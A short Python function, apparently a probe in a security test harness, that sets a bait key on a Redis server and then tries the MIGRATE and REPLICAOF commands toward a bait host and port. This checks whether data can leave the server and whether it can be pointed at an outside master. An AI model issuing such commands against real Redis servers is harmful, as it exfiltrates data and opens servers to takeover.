from honest import *
from loot import bait, tried


def total(redis):
    host, port = bait["tcp"]
    redis.set(bait["token"], "x")
    with tried("MIGRATE"):
        redis.execute_command("MIGRATE", host, port, bait["token"], 0, 500)
    with tried("REPLICAOF"):
        redis.execute_command("REPLICAOF", host, port)
    return 0
